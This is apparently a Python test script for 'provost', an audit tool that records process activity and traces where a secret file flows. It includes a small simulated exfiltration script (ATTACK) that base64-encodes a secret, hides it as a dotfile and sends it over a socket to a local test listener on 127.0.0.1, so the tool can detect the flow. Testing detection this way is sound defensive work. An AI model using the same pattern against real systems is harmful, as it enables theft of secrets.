#!/usr/bin/python3
"""A recorded stream goes through auditor and graph without BPF: the attack in tests/vectors/attack.rec
gives the same graph each time, a damaged stream gives an error and leaves nothing. Where BPF is, the
same attack is recorded anew."""

import json
import pathlib
import random
import shutil
import socket
import subprocess
import sys
import tempfile
import threading

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from provost_platform import BUILD, SOURCE, skip  # noqa: E402

PROVOST = BUILD / "bin" / "provost"
VECTOR = SOURCE / "tests" / "vectors" / "attack.rec"
ATTACK = """#!/bin/sh
/usr/bin/base64 secret > hidden
/bin/mv hidden .cache
exec /usr/bin/python3 -c 'import socket
s = socket.create_connection(("127.0.0.1", %d))
s.sendall(open(".cache", "rb").read())'
"""


def provost(*args, check=True):
    done = subprocess.run([PROVOST, *args], capture_output=True, timeout=100)
    assert not check or done.returncode == 0, done.stderr.decode(errors="replace")
    return done


def ask(state, *args):
    return json.loads(provost("audit", *args, "--state", state, "--json").stdout)


def replayed(stream, state):
    provost("audit", "replay", stream, state)
    provost("verify", "--state", state)
    return state


def named(state, text):
    return [n for n in ask(state, "find", text)["nodes"] if n["type"] == "file"][0]["id"]


def reached(state, secret):
    """What the secret reached, without numbers that differ from log to log."""
    answer = ask(state, "trace", "--forward", named(state, secret), "--all")
    assert answer["basis"]["gaps"] == 0
    name = {n["id"]: (n["type"], n["name"]) for n in answer["nodes"]}
    return sorted(name.values()), sorted((name[e["from"]], e["relation"], name[e["to"]])
                                         for e in answer["edges"])


def check_attack(nodes, directory, sender):
    kinds = dict((name, kind) for kind, name in nodes)
    assert kinds.get(f"{directory}/secret") == "file", nodes
    assert kinds.get(f"{directory}/hidden") == "file", nodes
    assert kinds.get("/usr/bin/base64") == "process", nodes
    assert any(kind == "process" and sender in name for kind, name in nodes), nodes
    assert any(kind == "path-change" and name.endswith(f"{directory}/.cache")
               for kind, name in nodes), nodes
    assert any(kind == "socket-out" for kind, _ in nodes), nodes


def test_vector(work):
    first = reached(replayed(VECTOR, work / "a"), "/tmp/attack/secret")
    second = reached(replayed(VECTOR, work / "b"), "/tmp/attack/secret")
    assert first == second
    assert first[1], "no edges"
    check_attack(first[0], "/tmp/attack", "/curl")
    events = ask(work / "a", "find", "--kind", "log-open")["events"]
    assert events[0]["fields"]["witness"].startswith("replay "), events


def refused(work, data, what):
    bad = work / "bad.rec"
    bad.write_bytes(data)
    done = provost("audit", "replay", bad, work / "bad", check=False)
    assert done.returncode == 8, f"{what}: exit {done.returncode}: {done.stderr}"
    assert b"stream" in done.stderr and not (work / "bad").exists(), f"{what}: {done.stderr}"


def test_damage(work):
    whole = VECTOR.read_bytes()
    rng = random.Random(5)
    for n in [0, 7, 39, 40, 47, len(whole) - 1] + rng.sample(range(48, len(whole)), 5):
        refused(work, whole[:n], f"cut to {n} bytes")
    refused(work, whole + b"\0", "one byte more")
    refused(work, whole[:8] + b"\xff" + whole[9:], "another version")
    refused(work, whole[:40] + b"\7" + whole[41:], "an unknown frame")
    refused(work, whole[:44] + b"\xff\xff\xff\x7f" + whole[48:], "a huge record")
    missing = provost("audit", "replay", work / "none", work / "bad", check=False)
    assert missing.returncode == 3, missing


def lost_records(work):
    """Without one record in the middle the rest is a stream with a hole, told as a gap."""
    whole = VECTOR.read_bytes()
    at = 40
    for _ in range(100):
        at += 8 + (int.from_bytes(whole[at + 4:at + 8], "little") + 7) // 8 * 8
    size = 8 + (int.from_bytes(whole[at + 4:at + 8], "little") + 7) // 8 * 8
    cpu = int.from_bytes(whole[at + 8 + 8:at + 8 + 12], "little")
    end = len(whole) - 2 * 16 + 16 * cpu
    counts = [int.from_bytes(whole[end + 8 * i:end + 8 * i + 8], "little") for i in range(2)]
    counts = b"".join(c.to_bytes(8, "little") for c in (counts[0] - 1, counts[1] + 1))
    (work / "hole.rec").write_bytes(whole[:at] + whole[at + size:end] + counts + whole[end + 16:])
    state = replayed(work / "hole.rec", work / "hole")
    gaps = ask(state, "find", "--kind", "gap")["events"]
    assert len(gaps) == 1 and gaps[0]["fields"]["count"] == 1, gaps
    last = ask(state, "find", "--kind", "witness-counters")["events"][-2:]
    assert sum(e["fields"]["lost"] for e in last) == 1, last


def test_live(work):
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(30)
        received = []
        sink = threading.Thread(target=lambda: received.append(server.accept()[0].recv(4096)))
        sink.start()
        here = work / "here"
        here.mkdir()
        (here / "secret").write_text("k3y-of-the-shop\n")
        (here / "attack.sh").write_text(ATTACK % server.getsockname()[1])
        (here / "attack.sh").chmod(0o755)
        done = subprocess.run([PROVOST, "audit", "record", "-o", work / "live.rec", "--",
                               "./attack.sh"], cwd=here, capture_output=True, timeout=60)
        if done.returncode == 8 and b"bpf" in done.stderr.lower():
            skip("the rest is well; nothing can be recorded here: " + done.stderr.decode())
        assert done.returncode == 0, done.stderr
        sink.join()
    assert received == [b"azN5LW9mLXRoZS1zaG9wCg==\n"], received
    nodes, _ = reached(replayed(work / "live.rec", work / "live"), f"{here}/secret")
    check_attack(nodes, str(here), "python3")
    failed = provost("audit", "record", "-o", work / "false.rec", "--", "/bin/false", check=False)
    assert failed.returncode == 1, failed
    nowhere = provost("audit", "record", "-o", "/nowhere/x", "--", "/bin/true", check=False)
    assert nowhere.returncode == 3 and b"/nowhere/x" in nowhere.stderr, nowhere
    full = provost("audit", "record", "-o", "/dev/full", "--", "/bin/true", check=False)
    assert full.returncode == 8 and b"No space" in full.stderr, full


work = pathlib.Path(tempfile.mkdtemp(prefix="provost-replay-"))
try:
    test_vector(work)
    test_damage(work)
    lost_records(work)
    test_live(work)
finally:
    shutil.rmtree(work)
